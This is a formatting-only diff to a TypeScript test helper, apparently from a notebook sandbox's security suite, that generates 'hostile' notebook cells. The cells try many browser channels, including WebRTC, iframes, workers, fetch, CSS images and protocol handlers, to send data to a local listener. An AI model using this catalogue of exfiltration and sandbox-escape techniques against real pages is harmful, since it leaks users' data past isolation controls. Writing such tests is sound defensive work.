@@ -76,8 +76,10 @@ const PEER = (udp: number, tcp: number): string => `
 export function hostileNotebook({ udp, tcp, hash }: Target): string {
   const at = `http://127.0.0.1:${tcp}/?secret-`;
   const inFrame = `(async () => { ${PEER(udp, tcp)} await open(window.RTCPeerConnection ?? window.webkitRTCPeerConnection); })()`;
-  return notebook('Hostile', [
-    `
+  return notebook(
+    'Hostile',
+    [
+      `
     const tried = [];
     const attempt = async (name, run) => {
       let came;
@@ -86,7 +88,7 @@ export function hostileNotebook({ udp, tcp, hash }: Target): string {
     };
     const child = (set) => { const frame = document.createElement("iframe"); set?.(frame); document.body.append(frame); return frame; };
     ${PEER(udp, tcp)}`,
-    `
+      `
     const names = Object.getOwnPropertyNames(window).filter((name) => /RTCPeerConnection/.test(name));
     await attempt("webrtc", () => open(window.RTCPeerConnection));
     await attempt("webkit", () => open(window.webkitRTCPeerConnection));
@@ -102,7 +104,7 @@ export function hostileNotebook({ udp, tcp, hash }: Target): string {
     await attempt("window.open", () => open(window.open("about:blank").RTCPeerConnection));
     await attempt("document.open", () => { const f = child(); f.contentDocument.write("<p>x"); return open(f.contentWindow.RTCPeerConnection); });
     await attempt("parent", () => open(window.parent.RTCPeerConnection));`,
-    `
+      `
     const code = ${JSON.stringify(inFrame)};
     const inChild = async (name, set) => attempt(name, () => { child(set); return new Promise((next) => setTimeout(() => next("made"), 150)); });
     await inChild("srcdoc script", (f) => { f.srcdoc = "<script>" + code + "</scr" + "ipt>"; });
@@ -119,7 +121,7 @@ export function hostileNotebook({ udp, tcp, hash }: Target): string {
     await attempt("shared worker", () => new Promise((done, fail) => { const w = new window.SharedWorker("data:text/javascript,fetch('${at}shared')"); w.onerror = fail; }));
     await attempt("service worker", () => navigator.serviceWorker.register("${at}sw"));
     await attempt("worklet", async () => (await new window.AudioContext().audioWorklet.addModule("${at}worklet")));`,
-    `
+      `
     const at = "${at}";
     await attempt("fetch", () => fetch(at + "fetch", {mode: "no-cors"}));
     await attempt("fetch of a child", () => child().contentWindow.fetch(at + "fetch-child"));
@@ -151,7 +153,7 @@ export function hostileNotebook({ udp, tcp, hash }: Target): string {
     await attempt("background", () => { document.body.style.backgroundImage = "url(" + at + "style)"; });
     await attempt("registration", () => navigator.registerProtocolHandler("web+x", at + "%s"));
     await attempt("auction", () => navigator.joinAdInterestGroup({owner: at, name: "x", updateURL: at + "auction"}, 1));`,
-    `
+      `
     const elements = ${JSON.stringify(ELEMENTS(at, hash))};
     for (const html of elements) await attempt(html.slice(0, 40), async () => {
       const holder = document.createElement("div");
@@ -168,7 +170,8 @@ export function hostileNotebook({ udp, tcp, hash }: Target): string {
     await attempt("script with the hash", () => { const s = Object.assign(document.createElement("script"), {src: "${at}hash", integrity: "${hash}", crossOrigin: "anonymous"}); document.head.append(s); });
     await new Promise((next) => setTimeout(next, 1500));
     display(html\`<ul class="tried">\${tried.map((line) => html\`<li>\${line}\`)}</ul>\`);`,
-  ].map((cell, i) => `await ${i < 2 ? 'null' : `step${i - 1}`};${cell}\nconst step${i} = true;`));
+    ].map((cell, i) => `await ${i < 2 ? 'null' : `step${i - 1}`};${cell}\nconst step${i} = true;`),
+  );
 }
 
 /** Notebooks that each try to carry something away in an address to which they send their own document, or a frame in it. */
